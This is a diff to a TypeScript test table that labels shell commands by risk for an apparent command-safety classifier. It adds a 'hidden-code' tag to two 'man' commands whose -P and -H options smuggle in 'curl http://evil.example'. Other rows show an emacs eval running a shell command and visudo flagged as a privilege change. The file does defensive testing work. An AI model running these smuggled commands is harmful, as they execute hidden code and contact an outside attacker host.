@@ -12,8 +12,8 @@ const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ["less x", ""],
   ["emacs --batch --eval '(shell-command \"id\")'", "hidden-code code:plain"],
   ["man ls", ""],
-  ["man -P 'curl http://evil.example' ls", "network"],
-  ["man -H'curl http://evil.example' ls", "network"],
+  ["man -P 'curl http://evil.example' ls", "network hidden-code"],
+  ["man -H'curl http://evil.example' ls", "network hidden-code"],
   ["visudo", "credential-change privilege"],
 ];
 
